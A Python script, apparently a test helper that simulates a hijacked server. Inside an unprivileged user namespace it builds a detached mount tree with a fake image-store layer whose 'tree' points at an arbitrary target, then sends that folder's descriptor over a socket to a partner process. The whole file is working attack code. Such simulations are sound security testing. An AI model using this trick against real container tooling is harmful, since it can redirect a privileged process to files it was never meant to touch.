"""A hijacked server's trick: a folder that looks like a layer of the image store, with another one as its tree.

usage: lay_over.py SOCKET LAYERS NAME TARGET

Mounts a copy of LAYERS in a detached file system, a new folder over LAYERS/NAME and TARGET over its `tree`; sends the
folder over the socket and waits. Needs no right but a user namespace. Ends with 2 where the kernel refuses (before 6.15).
"""
import ctypes
import os
import socket
import sys

OPEN_TREE, MOVE_MOUNT, FSOPEN, FSCONFIG, FSMOUNT = 428, 429, 430, 431, 432
AT_FDCWD, AT_RECURSIVE, CLONE_TREE, EMPTY_PATH, CONFIG_CREATE = -100, 0x8000, 1, 4, 6
NEW_USER, NEW_MOUNTS, SET_DUMPABLE, NOBODY = 0x10000000, 0x00020000, 4, 65534
LIBC = ctypes.CDLL(None, use_errno=True)


def checked(result):
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def call(number, *arguments):
    return checked(LIBC.syscall(ctypes.c_long(number), *(
        ctypes.c_char_p(one.encode()) if isinstance(one, str) else ctypes.c_long(one) for one in arguments)))


def new_folder():
    context = call(FSOPEN, "tmpfs", 0)
    call(FSCONFIG, context, CONFIG_CREATE, 0, 0, 0)
    return call(FSMOUNT, context, 0, 0)


def lay_over(layers, name, target):
    above, below = new_folder(), new_folder()
    os.mkdir("a", dir_fd=above)
    os.mkdir("tree", dir_fd=below)
    call(MOVE_MOUNT, call(OPEN_TREE, AT_FDCWD, layers, CLONE_TREE | AT_RECURSIVE), "", above, "a", EMPTY_PATH)
    call(MOVE_MOUNT, below, "", above, f"a/{name}", EMPTY_PATH)
    call(MOVE_MOUNT, call(OPEN_TREE, AT_FDCWD, target, CLONE_TREE), "", above, f"a/{name}/tree", EMPTY_PATH)
    return os.open(f"a/{name}", os.O_RDONLY | os.O_DIRECTORY, dir_fd=above)


def main():
    number, layers, name, target = sys.argv[1:]
    os.setgroups([])
    os.setresgid(NOBODY, NOBODY, NOBODY)
    os.setresuid(NOBODY, NOBODY, NOBODY)
    checked(LIBC.prctl(SET_DUMPABLE, 1, 0, 0, 0))  # to write the maps of its own namespace
    checked(LIBC.unshare(NEW_USER | NEW_MOUNTS))
    for file, text in (("setgroups", "deny"), ("uid_map", f"0 {NOBODY} 1"), ("gid_map", f"0 {NOBODY} 1")):
        with open(f"/proc/self/{file}", "w") as map_file:
            map_file.write(text)
    with socket.socket(fileno=int(number)) as partner:
        try:
            folder = lay_over(layers, name, target)
        except OSError as error:
            print(error, file=sys.stderr)
            return 2
        socket.send_fds(partner, [b"x"], [folder])
        partner.recv(1)
    return 0


if __name__ == "__main__":
    sys.exit(main())
